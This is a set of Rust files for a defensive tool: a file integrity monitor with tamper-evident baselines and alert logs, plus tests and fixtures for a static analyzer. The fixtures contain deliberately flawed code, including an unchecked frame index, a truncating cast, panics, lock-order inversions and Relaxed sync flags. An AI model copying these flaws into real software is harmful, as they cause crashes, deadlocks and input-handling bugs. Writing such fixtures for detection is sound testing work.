        fs.write("/usr/bin/su", b"su elf", 0o4755, "root");
        fs.write("/usr/sbin/voltha-agent", b"voltha elf", 0o755, "root");
        fs.write(
            "/etc/ssh/sshd_config",
            b"PermitRootLogin no\n",
            0o600,
            "root",
        );
        fs.write("/etc/passwd", b"root:x:0:0\n", 0o644, "root");
        fs.write("/etc/shadow", b"root:$6$...\n", 0o640, "root");
        fs.write("/boot/vmlinuz", b"kernel image", 0o600, "root");
        fs.write("/var/log/syslog", b"boot messages\n", 0o640, "syslog");
        fs.write("/var/log/voltha.log", b"adapter up\n", 0o640, "voltha");
        fs.write("/var/lib/onos/flows.db", b"flow table v1", 0o640, "onos");
        fs.write("/tmp/session.tmp", b"scratch", 0o600, "root");
        fs
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn write_and_get() {
        let mut fs = SimulatedFs::new();
        fs.write("/a", b"x", 0o644, "root");
        assert_eq!(fs.get("/a").unwrap().content, b"x");
        assert_eq!(fs.len(), 1);
    }

    #[test]
    fn append_creates_or_extends() {
        let mut fs = SimulatedFs::new();
        fs.append("/var/log/x", b"line1\n");
        fs.append("/var/log/x", b"line2\n");
        assert_eq!(fs.get("/var/log/x").unwrap().content, b"line1\nline2\n");
    }

    #[test]
    fn chmod_and_delete() {
        let mut fs = SimulatedFs::new();
        fs.write("/a", b"x", 0o644, "root");
        assert!(fs.chmod("/a", 0o600));
        assert_eq!(fs.get("/a").unwrap().mode, 0o600);
        assert!(!fs.chmod("/missing", 0o600));
        assert!(fs.delete("/a").is_some());
        assert!(fs.delete("/a").is_none());
    }

    #[test]
    fn digest_tracks_content() {
        let mut fs = SimulatedFs::new();
        fs.write("/a", b"x", 0o644, "root");
        let d1 = fs.get("/a").unwrap().digest();
        fs.write("/a", b"y", 0o644, "root");
        assert_ne!(fs.get("/a").unwrap().digest(), d1);
    }

    #[test]
    fn olt_image_has_expected_shape() {
        let fs = SimulatedFs::olt_image();
        assert!(fs.get("/usr/sbin/sshd").is_some());
        assert!(fs.get("/var/log/syslog").is_some());
        assert!(fs.len() >= 10);
    }
}
