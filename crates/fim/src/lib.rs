//! # genio-fim
//!
//! File integrity monitoring (mitigation **M7**): a Tripwire-shaped engine
//! over a simulated filesystem.
//!
//! The design follows the paper: cryptographic baselines of critical system
//! files, alerts on unauthorized changes, and baselines that are themselves
//! signed (with keys protected by the TPM in the platform core) "to prevent
//! tampering with the monitoring process". **Lesson 3**'s FIM half — "file
//! monitoring should distinguish between critical resources that should not
//! be mutable from mutable ones, to avoid misleading alerts" — is modelled
//! as the policy choice between [`policy::FimPolicy::naive`] (watch
//! everything) and a classified policy that exempts mutable paths.
//!
//! * [`fs`] — the simulated filesystem.
//! * [`policy`] — path classification (critical vs mutable vs ignored).
//! * [`monitor`] — baselines, scans, alerts and the hash-chained alert log.
//!
//! # Example
//!
//! ```
//! use genio_fim::fs::SimulatedFs;
//! use genio_fim::policy::FimPolicy;
//! use genio_fim::monitor::FimMonitor;
//!
//! let mut fs = SimulatedFs::new();
//! fs.write("/usr/sbin/sshd", b"sshd binary", 0o755, "root");
//! let monitor = FimMonitor::baseline(&fs, &FimPolicy::genio_default(), b"fim-key");
//! fs.write("/usr/sbin/sshd", b"sshd binary (trojaned)", 0o755, "root");
//! let scan = monitor.scan(&fs);
//! assert_eq!(scan.alerts.len(), 1);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod fs;
pub mod monitor;
pub mod policy;
