//! Baselines, scans, alerts, and the tamper-evident alert log.

use std::collections::BTreeMap;

use genio_crypto::hmac::HmacSha256;
use genio_crypto::sha256::{sha256_pair, Digest};

use crate::fs::SimulatedFs;
use crate::policy::{FimPolicy, PathClass};

/// What changed about a monitored file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChangeKind {
    /// Content digest differs.
    Modified,
    /// File present now, absent at baseline.
    Added,
    /// File absent now, present at baseline.
    Deleted,
    /// Permissions differ.
    ModeChanged,
    /// Owner differs.
    OwnerChanged,
}

/// One alert raised by a scan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Alert {
    /// Affected path.
    pub path: String,
    /// What changed.
    pub kind: ChangeKind,
    /// The path's classification under the active policy.
    pub class: PathClass,
}

/// Result of one scan.
#[derive(Debug, Clone)]
pub struct ScanResult {
    /// Alerts on critical paths (real findings under the policy).
    pub alerts: Vec<Alert>,
    /// Changes observed on mutable paths (recorded, not alerted).
    pub expected_changes: Vec<Alert>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct BaselineEntry {
    digest: Digest,
    mode: u32,
    owner: String,
    class: PathClass,
}

/// The FIM engine: a signed baseline plus scan logic.
#[derive(Debug)]
pub struct FimMonitor {
    baseline: BTreeMap<String, BaselineEntry>,
    policy: FimPolicy,
    baseline_mac: [u8; 32],
    key: Vec<u8>,
}

impl FimMonitor {
    /// Takes a baseline of `fs` under `policy`, authenticating the baseline
    /// database with `key` (in the platform the key lives in the TPM).
    ///
    /// Ignored paths are not recorded at all.
    pub fn baseline(fs: &SimulatedFs, policy: &FimPolicy, key: &[u8]) -> Self {
        let mut baseline = BTreeMap::new();
        for (path, rec) in fs.iter() {
            let class = policy.classify(path);
            if class == PathClass::Ignored {
                continue;
            }
            baseline.insert(
                path.clone(),
                BaselineEntry {
                    digest: rec.digest(),
                    mode: rec.mode,
                    owner: rec.owner.clone(),
                    class,
                },
            );
        }
        let mac = Self::mac_of(&baseline, key);
        FimMonitor {
            baseline,
            policy: policy.clone(),
            baseline_mac: mac,
            key: key.to_vec(),
        }
    }

    fn mac_of(baseline: &BTreeMap<String, BaselineEntry>, key: &[u8]) -> [u8; 32] {
        let mut mac = HmacSha256::new(key);
        for (path, e) in baseline {
            mac.update(path.as_bytes());
            mac.update(&e.digest);
            mac.update(&e.mode.to_be_bytes());
            mac.update(e.owner.as_bytes());
        }
        mac.finalize()
    }

    /// Verifies the baseline database has not been tampered with (the
    /// "Tripwire configurations and databases are encrypted and signed"
    /// property).
    #[must_use]
    pub fn baseline_intact(&self) -> bool {
        genio_crypto::ct::eq(&Self::mac_of(&self.baseline, &self.key), &self.baseline_mac)
    }

    /// Test/attack hook: tamper with a baseline entry (what malware that
    /// can write the DB would do).
    pub fn tamper_baseline(&mut self, path: &str, new_digest: Digest) {
        if let Some(e) = self.baseline.get_mut(path) {
            e.digest = new_digest;
        }
    }

    /// Number of monitored paths.
    pub fn monitored_paths(&self) -> usize {
        self.baseline.len()
    }

    /// Scans `fs` against the baseline. Changes on critical paths become
    /// alerts; changes on mutable paths are recorded as expected.
    pub fn scan(&self, fs: &SimulatedFs) -> ScanResult {
        let mut alerts = Vec::new();
        let mut expected = Vec::new();
        let mut push = |alert: Alert| match alert.class {
            PathClass::Critical => alerts.push(alert),
            PathClass::Mutable => expected.push(alert),
            PathClass::Ignored => {}
        };
        for (path, entry) in &self.baseline {
            match fs.get(path) {
                None => push(Alert {
                    path: path.clone(),
                    kind: ChangeKind::Deleted,
                    class: entry.class,
                }),
                Some(rec) => {
                    if rec.digest() != entry.digest {
                        push(Alert {
                            path: path.clone(),
                            kind: ChangeKind::Modified,
                            class: entry.class,
                        });
                    }
                    if rec.mode != entry.mode {
                        push(Alert {
                            path: path.clone(),
                            kind: ChangeKind::ModeChanged,
                            class: entry.class,
                        });
                    }
                    if rec.owner != entry.owner {
                        push(Alert {
                            path: path.clone(),
                            kind: ChangeKind::OwnerChanged,
                            class: entry.class,
                        });
                    }
                }
            }
        }
        for (path, _) in fs.iter() {
            let class = self.policy.classify(path);
            if class == PathClass::Ignored {
                continue;
            }
            if !self.baseline.contains_key(path) {
                push(Alert {
                    path: path.clone(),
                    kind: ChangeKind::Added,
                    class,
                });
            }
        }
        ScanResult {
            alerts,
            expected_changes: expected,
        }
    }
}

/// A hash-chained, append-only alert log: each entry commits to the whole
/// prefix, so deleting or reordering past alerts is detectable.
#[derive(Debug, Default)]
pub struct AlertLog {
    entries: Vec<(Alert, Digest)>,
}

impl AlertLog {
    /// Creates an empty log.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends an alert, chaining its hash to the previous head.
    pub fn append(&mut self, alert: Alert) {
        let prev = self.head();
        let encoded = format!("{}|{:?}|{:?}", alert.path, alert.kind, alert.class);
        let digest = sha256_pair(&prev, encoded.as_bytes());
        self.entries.push((alert, digest));
    }

    /// Current chain head (all-zero for the empty log).
    pub fn head(&self) -> Digest {
        self.entries.last().map(|(_, d)| *d).unwrap_or([0u8; 32])
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True when the log is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Recomputes the chain and checks internal consistency.
    #[must_use]
    pub fn verify(&self) -> bool {
        let mut prev = [0u8; 32];
        for (alert, digest) in &self.entries {
            let encoded = format!("{}|{:?}|{:?}", alert.path, alert.kind, alert.class);
            let expect = sha256_pair(&prev, encoded.as_bytes());
            if expect != *digest {
                return false;
            }
            prev = *digest;
        }
        true
    }

    /// Test/attack hook: silently drop an entry (what an intruder scrubbing
    /// evidence would do).
    pub fn scrub(&mut self, index: usize) {
        if index < self.entries.len() {
            self.entries.remove(index);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fs::SimulatedFs;

    fn setup(policy: FimPolicy) -> (SimulatedFs, FimMonitor) {
        let fs = SimulatedFs::olt_image();
        let monitor = FimMonitor::baseline(&fs, &policy, b"fim-key");
        (fs, monitor)
    }

    #[test]
    fn clean_scan_is_silent() {
        let (fs, monitor) = setup(FimPolicy::genio_default());
        let result = monitor.scan(&fs);
        assert!(result.alerts.is_empty());
        assert!(result.expected_changes.is_empty());
    }

    #[test]
    fn tampering_detected_under_both_policies() {
        for policy in [FimPolicy::naive(), FimPolicy::genio_default()] {
            let (mut fs, monitor) = setup(policy);
            fs.write("/usr/bin/su", b"su elf (backdoored)", 0o4755, "root");
            let result = monitor.scan(&fs);
            assert!(result
                .alerts
                .iter()
                .any(|a| a.path == "/usr/bin/su" && a.kind == ChangeKind::Modified));
        }
    }

    #[test]
    fn log_churn_false_positives_only_under_naive_policy() {
        // Lesson 3's FIM metric, in miniature.
        let (mut fs_naive, naive) = setup(FimPolicy::naive());
        fs_naive.append("/var/log/syslog", b"more lines\n");
        let naive_result = naive.scan(&fs_naive);
        assert_eq!(
            naive_result.alerts.len(),
            1,
            "naive policy raises a false positive"
        );

        let (mut fs_tuned, tuned) = setup(FimPolicy::genio_default());
        fs_tuned.append("/var/log/syslog", b"more lines\n");
        let tuned_result = tuned.scan(&fs_tuned);
        assert!(tuned_result.alerts.is_empty(), "tuned policy is silent");
        assert_eq!(
            tuned_result.expected_changes.len(),
            1,
            "change still recorded"
        );
    }

    #[test]
    fn deletion_and_mode_change_detected() {
        let (mut fs, monitor) = setup(FimPolicy::genio_default());
        fs.delete("/etc/shadow");
        fs.chmod("/etc/passwd", 0o666);
        let result = monitor.scan(&fs);
        assert!(result
            .alerts
            .iter()
            .any(|a| a.path == "/etc/shadow" && a.kind == ChangeKind::Deleted));
        assert!(result
            .alerts
            .iter()
            .any(|a| a.path == "/etc/passwd" && a.kind == ChangeKind::ModeChanged));
    }

    #[test]
    fn new_critical_file_detected() {
        let (mut fs, monitor) = setup(FimPolicy::genio_default());
        fs.write("/usr/sbin/evil-daemon", b"implant", 0o755, "root");
        let result = monitor.scan(&fs);
        assert!(result
            .alerts
            .iter()
            .any(|a| a.path == "/usr/sbin/evil-daemon" && a.kind == ChangeKind::Added));
    }

    #[test]
    fn ignored_paths_never_alert() {
        let (mut fs, monitor) = setup(FimPolicy::genio_default());
        fs.write("/tmp/whatever", b"scratch data", 0o600, "root");
        fs.delete("/tmp/session.tmp");
        let result = monitor.scan(&fs);
        assert!(result.alerts.is_empty());
        assert!(result.expected_changes.is_empty());
    }

    #[test]
    fn baseline_tampering_detected() {
        let (mut fs, mut monitor) = setup(FimPolicy::genio_default());
        assert!(monitor.baseline_intact());
        // Attacker modifies the binary AND patches the baseline digest.
        fs.write("/usr/bin/su", b"su elf (backdoored)", 0o4755, "root");
        let new_digest = fs.get("/usr/bin/su").unwrap().digest();
        monitor.tamper_baseline("/usr/bin/su", new_digest);
        // The scan is now silent...
        assert!(monitor.scan(&fs).alerts.is_empty());
        // ...but the signed baseline no longer verifies.
        assert!(!monitor.baseline_intact());
    }

    #[test]
    fn owner_change_detected() {
        let (mut fs, monitor) = setup(FimPolicy::genio_default());
        let rec = fs.get("/etc/passwd").unwrap().clone();
        fs.write("/etc/passwd", &rec.content, rec.mode, "attacker");
        let result = monitor.scan(&fs);
        assert!(result
            .alerts
            .iter()
            .any(|a| a.path == "/etc/passwd" && a.kind == ChangeKind::OwnerChanged));
    }

    #[test]
    fn alert_log_chains_and_detects_scrubbing() {
        let mut log = AlertLog::new();
        for i in 0..5 {
            log.append(Alert {
                path: format!("/usr/bin/f{i}"),
                kind: ChangeKind::Modified,
                class: PathClass::Critical,
            });
        }
        assert!(log.verify());
        assert_eq!(log.len(), 5);
        log.scrub(2);
        assert!(!log.verify(), "scrubbed log must fail verification");
    }

    #[test]
    fn empty_log_verifies() {
        let log = AlertLog::new();
        assert!(log.verify());
        assert_eq!(log.head(), [0u8; 32]);
    }
}
