//! Path classification policies: what is critical, what is expected to
//! change, what is not worth watching.

/// Classification of one path.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PathClass {
    /// Must never change post-deployment (binaries, configs, kernel).
    Critical,
    /// Expected to change in normal operation (logs, databases, spool).
    Mutable,
    /// Not monitored at all (scratch space).
    Ignored,
}

/// A prefix rule mapping a path subtree to a class.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PathRule {
    /// Path prefix, e.g. `/var/log`.
    pub prefix: String,
    /// Class for everything under the prefix.
    pub class: PathClass,
}

/// A FIM policy: ordered prefix rules, longest match wins; unmatched paths
/// default to [`PathClass::Critical`] (fail closed).
#[derive(Debug, Clone, Default)]
pub struct FimPolicy {
    rules: Vec<PathRule>,
}

impl FimPolicy {
    /// The naive policy: no rules, everything is critical. This is what a
    /// freshly deployed Tripwire behaves like before tuning, and the source
    /// of Lesson 3's "misleading alerts".
    pub fn naive() -> Self {
        Self::default()
    }

    /// Adds a rule, builder-style.
    pub fn rule(mut self, prefix: &str, class: PathClass) -> Self {
        self.rules.push(PathRule {
            prefix: prefix.to_string(),
            class,
        });
        self
    }

    /// The tuned GENIO policy: system paths critical, operational state
    /// mutable, scratch ignored.
    pub fn genio_default() -> Self {
        Self::naive()
            .rule("/usr", PathClass::Critical)
            .rule("/etc", PathClass::Critical)
            .rule("/boot", PathClass::Critical)
            .rule("/var/log", PathClass::Mutable)
            .rule("/var/lib", PathClass::Mutable)
            .rule("/tmp", PathClass::Ignored)
    }

    /// Classifies a path: longest matching prefix wins; default Critical.
    pub fn classify(&self, path: &str) -> PathClass {
        self.rules
            .iter()
            .filter(|r| path.starts_with(&r.prefix))
            .max_by_key(|r| r.prefix.len())
            .map(|r| r.class)
            .unwrap_or(PathClass::Critical)
    }

    /// Number of rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// True for the naive (rule-free) policy.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn naive_classifies_everything_critical() {
        let p = FimPolicy::naive();
        assert_eq!(p.classify("/var/log/syslog"), PathClass::Critical);
        assert_eq!(p.classify("/tmp/x"), PathClass::Critical);
    }

    #[test]
    fn genio_policy_classification() {
        let p = FimPolicy::genio_default();
        assert_eq!(p.classify("/usr/sbin/sshd"), PathClass::Critical);
        assert_eq!(p.classify("/etc/passwd"), PathClass::Critical);
        assert_eq!(p.classify("/var/log/syslog"), PathClass::Mutable);
        assert_eq!(p.classify("/var/lib/onos/flows.db"), PathClass::Mutable);
        assert_eq!(p.classify("/tmp/session.tmp"), PathClass::Ignored);
        // Unmatched paths fail closed.
        assert_eq!(p.classify("/opt/vendor/tool"), PathClass::Critical);
    }

    #[test]
    fn longest_prefix_wins() {
        let p = FimPolicy::naive()
            .rule("/var", PathClass::Mutable)
            .rule("/var/lib/genio/keys", PathClass::Critical);
        assert_eq!(p.classify("/var/log/x"), PathClass::Mutable);
        assert_eq!(
            p.classify("/var/lib/genio/keys/ca.pem"),
            PathClass::Critical
        );
    }
}
