//! Property-based tests for FIM soundness and the tamper-evident log.

use genio_testkit::prelude::*;

use genio_fim::fs::SimulatedFs;
use genio_fim::monitor::{Alert, AlertLog, ChangeKind, FimMonitor};
use genio_fim::policy::{FimPolicy, PathClass};

fn arb_critical_path() -> impl Strategy<Value = String> {
    select(vec![
        "/usr/sbin/sshd",
        "/usr/bin/su",
        "/usr/sbin/voltha-agent",
        "/etc/ssh/sshd_config",
        "/etc/passwd",
        "/etc/shadow",
        "/boot/vmlinuz",
    ])
    .prop_map(str::to_string)
}

property! {
    /// Soundness: modifying any critical file always raises exactly one
    /// Modified alert for that path, and no other alert.
    fn any_critical_modification_detected(path in arb_critical_path(),
                                          new_content in bytes(1..64)) {
        let fs = SimulatedFs::olt_image();
        let monitor = FimMonitor::baseline(&fs, &FimPolicy::genio_default(), b"k");
        let mut tampered = fs.clone();
        let original = tampered.get(&path).unwrap().clone();
        prop_assume!(new_content != original.content);
        tampered.write(&path, &new_content, original.mode, &original.owner);
        let result = monitor.scan(&tampered);
        prop_assert_eq!(result.alerts.len(), 1);
        prop_assert_eq!(&result.alerts[0].path, &path);
        prop_assert_eq!(result.alerts[0].kind, ChangeKind::Modified);
    }
}

property! {
    /// Completeness of the quiet case: scanning an unmodified filesystem
    /// never alerts, under any policy.
    fn clean_scan_silent_under_any_policy(rules in vec(
        (select(vec!["/usr", "/etc", "/var", "/boot", "/tmp"]), 0u8..3), 0..5)) {
        let mut policy = FimPolicy::naive();
        for (prefix, class) in rules {
            let class = match class {
                0 => PathClass::Critical,
                1 => PathClass::Mutable,
                _ => PathClass::Ignored,
            };
            policy = policy.rule(prefix, class);
        }
        let fs = SimulatedFs::olt_image();
        let monitor = FimMonitor::baseline(&fs, &policy, b"k");
        let result = monitor.scan(&fs);
        prop_assert!(result.alerts.is_empty());
        prop_assert!(result.expected_changes.is_empty());
    }
}

property! {
    /// The hash-chained alert log verifies iff untouched: removing any
    /// entry (except trimming the final suffix entirely) breaks it.
    fn alert_log_tamper_evident(n in 2usize..20, scrub in index()) {
        let mut log = AlertLog::new();
        for i in 0..n {
            log.append(Alert {
                path: format!("/usr/bin/f{i}"),
                kind: ChangeKind::Modified,
                class: PathClass::Critical,
            });
        }
        prop_assert!(log.verify());
        let idx = scrub.index(n - 1); // never the last entry
        log.scrub(idx);
        prop_assert!(!log.verify());
    }
}
