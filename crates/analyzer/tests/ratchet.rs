//! Ratchet behaviour, end to end: the tempdir demonstration the issue's
//! acceptance criterion asks for (a deliberately introduced `unwrap()`
//! must fail the gate; fixing a site must shrink the baseline), plus
//! property tests pinning that the diff is order-independent and stable.

use std::fs;
use std::path::{Path, PathBuf};

use genio_analyzer::baseline::{diff, Key, Report};
use genio_analyzer::rules::{Finding, Rule};
use genio_analyzer::workspace;
use genio_testkit::prelude::*;

fn fixture_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/miniws")
}

/// Copies the fixture tree into a fresh scratch directory.
fn copy_tree(from: &Path, to: &Path) {
    fs::create_dir_all(to).expect("mkdir");
    for entry in fs::read_dir(from).expect("readdir") {
        let path = entry.expect("entry").path();
        let name = path.file_name().expect("name");
        let dst = to.join(name);
        if path.is_dir() {
            copy_tree(&path, &dst);
        } else {
            fs::copy(&path, &dst).expect("copy");
        }
    }
}

struct Scratch(PathBuf);

impl Scratch {
    fn new(tag: &str) -> Scratch {
        let dir = std::env::temp_dir()
            .join(format!("genio-analyzer-{tag}-{}", std::process::id()));
        if dir.exists() {
            fs::remove_dir_all(&dir).expect("clean stale scratch");
        }
        copy_tree(&fixture_root(), &dir);
        Scratch(dir)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// The acceptance demonstration: introduce a new `unwrap()` into library
/// code of a scanned tree and watch the ratchet fail — exactly what
/// `scripts/verify.sh` would do on a real regression.
#[test]
fn new_unwrap_in_library_code_fails_the_ratchet() {
    let scratch = Scratch::new("regress");
    let root = &scratch.0;

    // 1. Baseline the tree as-committed (round-trip through JSON, the
    //    same path `--write-baseline` then the gate takes).
    let baseline_json = workspace::scan(root).expect("scan").to_json().to_string();
    let baseline = Report::from_json_text(&baseline_json).expect("parse baseline");
    let clean = workspace::scan(root).expect("rescan");
    assert!(diff(&clean.findings, &baseline.findings).passes());

    // 2. Regress: a brand-new abort path in library code.
    let lib = root.join("crates/demo/src/lib.rs");
    let mut src = fs::read_to_string(&lib).expect("read fixture");
    src.push_str("\n/// Freshly introduced regression.\n");
    src.push_str("pub fn regression(v: Option<u8>) -> u8 {\n    v.unwrap()\n}\n");
    fs::write(&lib, src).expect("write regression");

    let regressed = workspace::scan(root).expect("scan regressed");
    let d = diff(&regressed.findings, &baseline.findings);
    assert!(!d.passes(), "new unwrap must fail the gate");
    assert_eq!(d.new.len(), 1);
    assert_eq!(d.new[0].rule, Rule::R1PanicPath);
    assert_eq!(d.new[0].function, "regression");
}

/// The other ratchet direction: fixing a flagged site shows up as
/// `fixed`, and rewriting the baseline makes the shrink permanent.
#[test]
fn fixing_a_site_shrinks_the_baseline() {
    let scratch = Scratch::new("shrink");
    let root = &scratch.0;
    let baseline = workspace::scan(root).expect("scan");

    // Fix the `.unwrap()` positive in the demo crate.
    let lib = root.join("crates/demo/src/lib.rs");
    let src = fs::read_to_string(&lib).expect("read fixture");
    let fixed_src = src.replace("x.unwrap()", "x.unwrap_or(0)");
    assert_ne!(src, fixed_src, "fixture must contain the unwrap positive");
    fs::write(&lib, fixed_src).expect("write fix");

    let after = workspace::scan(root).expect("scan fixed");
    let d = diff(&after.findings, &baseline.findings);
    assert!(d.passes(), "fixing a site must never fail the gate");
    assert_eq!(d.fixed.len(), 1);
    assert_eq!(d.fixed[0].0.rule, Rule::R1PanicPath);
    assert_eq!(d.fixed[0].0.function, "lib_unwrap");
    assert!(after.findings.len() < baseline.findings.len());

    // Rewritten baseline: the old count can never come back silently.
    let rewritten =
        Report::from_json_text(&after.to_json().to_string()).expect("rewrite");
    assert!(diff(&after.findings, &rewritten.findings).passes());
    assert_eq!(rewritten.findings.len(), baseline.findings.len() - 1);
}

/// Deterministic Fisher–Yates driven by a test-case seed.
fn shuffled(findings: &[Finding], mut seed: u64) -> Vec<Finding> {
    let mut v = findings.to_vec();
    for i in (1..v.len()).rev() {
        seed = seed
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let j = ((seed >> 33) as usize) % (i + 1);
        v.swap(i, j);
    }
    v
}

fn corpus() -> Vec<Finding> {
    let mut findings = workspace::scan(&fixture_root())
        .expect("fixture scan")
        .findings;
    // A duplicate key (second unwrap in the same function) exercises the
    // multiset path of the diff.
    let mut dup = findings[0].clone();
    dup.line += 40;
    findings.push(dup);
    findings
}

property! {
    /// Permuting the current scan never changes the ratchet outcome.
    fn diff_is_order_independent(seed in any_u64()) {
        let findings = corpus();
        let baseline = findings.clone();
        let canonical = diff(&findings, &baseline);
        let permuted = diff(&shuffled(&findings, seed), &baseline);
        prop_assert_eq!(&canonical.new, &permuted.new);
        prop_assert_eq!(&canonical.fixed, &permuted.fixed);
        prop_assert!(permuted.passes());
    }
}

property! {
    /// Permuting the *baseline* never changes the ratchet outcome, and a
    /// finding dropped from the baseline is flagged new regardless of
    /// order.
    fn baseline_order_is_irrelevant(seed in any_u64(), drop in index()) {
        let findings = corpus();
        let mut baseline = findings.clone();
        let removed = baseline.remove(drop.index(baseline.len()));
        let canonical = diff(&findings, &baseline);
        let permuted = diff(&findings, &shuffled(&baseline, seed));
        prop_assert_eq!(&canonical.new, &permuted.new);
        prop_assert_eq!(&canonical.fixed, &permuted.fixed);
        prop_assert!(!permuted.passes());
        prop_assert_eq!(Key::of(&permuted.new[0]), Key::of(&removed));
    }
}

property! {
    /// Scanning the same tree twice is bit-stable (same JSON document).
    fn scan_is_deterministic(_tick in any_u8()) {
        let a = workspace::scan(&fixture_root()).expect("scan a");
        let b = workspace::scan(&fixture_root()).expect("scan b");
        prop_assert_eq!(a.to_json().to_string(), b.to_json().to_string());
    }
}
