//! R5 fixture hot path (`pon/frame.rs` is in the R5 scope table).
//!
//! Expected findings: one R5 (in `read_field`).

/// R5 positive: frame offset used without a bounds guard.
pub fn read_field(frame: &[u8], offset: usize) -> u8 {
    frame[offset]
}

/// R5 negative: `get` both guards and accesses.
pub fn read_checked(frame: &[u8], offset: usize) -> u8 {
    frame.get(offset).copied().unwrap_or(0)
}
