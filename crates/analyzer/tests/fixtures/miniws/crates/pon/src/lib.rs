//! R4 fixture crate root: narrowing casts in a parser crate.
//!
//! Expected findings: one R4 (in `narrow_sci`). The widening cast and
//! the literal cast must stay silent.

#![forbid(unsafe_code)]

pub mod frame;

/// R4 positive: narrowing a wire field to 16 bits.
pub fn narrow_sci(sci: u64) -> u16 {
    sci as u16
}

/// R4 negative: widening loses nothing.
pub fn widen(x: u32) -> u64 {
    x as u64
}

/// R4 negative: casting a literal constant.
pub fn literal_cast() -> u64 {
    u32::MAX as u64
}

/// R4 negative (dataflow discharge): the only caller passes a literal,
/// so the narrowing cannot truncate attacker-controlled input.
pub fn narrow_fixed(port: u64) -> u16 {
    port as u16
}

/// Sole call site of `narrow_fixed`, with a literal argument.
pub fn default_port() -> u16 {
    narrow_fixed(7)
}
