//! Concurrency fixture corpus: R13/R14 positives and negatives.
//!
//! Expected findings: four R13 — the direct two-lock inversion
//! (`ab_order` vs `ba_order`) and the cycle closed through a call made
//! under lock (`via_call` calling `grab_d`, against `dc_order`) — and
//! two R14 on the `ready` flag (`publish_ready`, `spin_wait`). The
//! consistent-order pair, the scope/drop releases, the pure counters
//! and the Acquire/Release flag must all stay silent.
//!
//! Never compiled — scanned only; the lock types are stand-ins.

#![forbid(unsafe_code)]

/// R13 positive: acquires `a_mu` then `b_mu`...
pub fn ab_order(a_mu: &Mutex, b_mu: &Mutex) {
    let g1 = a_mu.lock();
    let g2 = b_mu.lock();
    use_both(&g1, &g2);
}

/// R13 positive: ...while this thread takes `b_mu` then `a_mu`.
pub fn ba_order(a_mu: &Mutex, b_mu: &Mutex) {
    let g1 = b_mu.lock();
    let g2 = a_mu.lock();
    use_both(&g1, &g2);
}

/// Acquires only `d_mu`; on its own this is fine.
fn grab_d(d_mu: &Mutex) {
    let g = d_mu.lock();
    touch(&g);
}

/// R13 positive: calling `grab_d` while `c_mu` is held induces the
/// c → d edge...
pub fn via_call(c_mu: &Mutex, d_mu: &Mutex) {
    let g = c_mu.lock();
    grab_d(d_mu);
}

/// R13 positive: ...and this function closes the cycle with d → c.
pub fn dc_order(c_mu: &Mutex, d_mu: &Mutex) {
    let g1 = d_mu.lock();
    let g2 = c_mu.lock();
    use_both(&g1, &g2);
}

/// R13 negative: both functions agree on the e-before-f order.
pub fn consistent_one(e_mu: &Mutex, f_mu: &Mutex) {
    let g1 = e_mu.lock();
    let g2 = f_mu.lock();
    use_both(&g1, &g2);
}

/// R13 negative: same canonical order again.
pub fn consistent_two(e_mu: &Mutex, f_mu: &Mutex) {
    let g1 = e_mu.lock();
    let g2 = f_mu.lock();
    use_both(&g1, &g2);
}

/// R13 negative: the `f_mu` guard dies at the end of its block, so
/// re-locking in the opposite textual order induces no f → e edge.
pub fn scoped_release(e_mu: &Mutex, f_mu: &Mutex) {
    {
        let g1 = f_mu.lock();
        touch(&g1);
    }
    let g2 = e_mu.lock();
    let g3 = f_mu.lock();
    use_both(&g2, &g3);
}

/// R13 negative: an explicit `drop` releases the guard early.
pub fn dropped_release(e_mu: &Mutex, f_mu: &Mutex) {
    let g1 = f_mu.lock();
    touch(&g1);
    drop(g1);
    let g2 = e_mu.lock();
    touch(&g2);
}

/// R14 positive: `ready` is read in a branch condition somewhere, so a
/// Relaxed publish is a sync-flag misuse...
pub fn publish_ready(ready: &AtomicBool) {
    ready.store(true, Ordering::Relaxed);
}

/// R14 positive: ...as is the Relaxed read in the spin condition itself.
pub fn spin_wait(ready: &AtomicBool) {
    while !ready.load(Ordering::Relaxed) {
        hint();
    }
}

/// R14 negative: a pure counter — incremented and snapshotted, never
/// branched on — may stay Relaxed.
pub fn bump(hits: &AtomicU64) {
    hits.fetch_add(1, Ordering::Relaxed);
}

/// R14 negative: the counter read lands in a return value, not a
/// condition.
pub fn snapshot_hits(hits: &AtomicU64) -> u64 {
    hits.load(Ordering::Relaxed)
}

/// R14 negative: a flag handled with proper Acquire/Release pairing.
pub fn done_yet(done: &AtomicBool) -> u8 {
    if done.load(Ordering::Acquire) {
        1
    } else {
        0
    }
}

/// R14 negative: the Release publish side of `done`.
pub fn finish(done: &AtomicBool) {
    done.store(true, Ordering::Release);
}
