//! R1/R6 fixture crate: abort paths in library code, debt markers.
//!
//! Expected findings: three R1 (in `lib_unwrap`, `lib_expect`,
//! `lib_panic`) and one R6 (the to-do comment below). The test module
//! and the look-alike methods must stay silent.

#![forbid(unsafe_code)]

pub mod ops;

// TODO: fixture debt marker — exactly one R6 finding.

/// R1 positive: plain `.unwrap()` in library code.
pub fn lib_unwrap(x: Option<u8>) -> u8 {
    x.unwrap()
}

/// R1 positive: `.expect("...")` with a string argument.
pub fn lib_expect(x: Option<u8>) -> u8 {
    x.expect("fixture expects a value")
}

/// R1 positive: `panic!` macro in library code.
pub fn lib_panic(flag: bool) {
    if flag {
        panic!("fixture abort path");
    }
}

/// R1 negative: a parser method named `expect` taking a byte is not
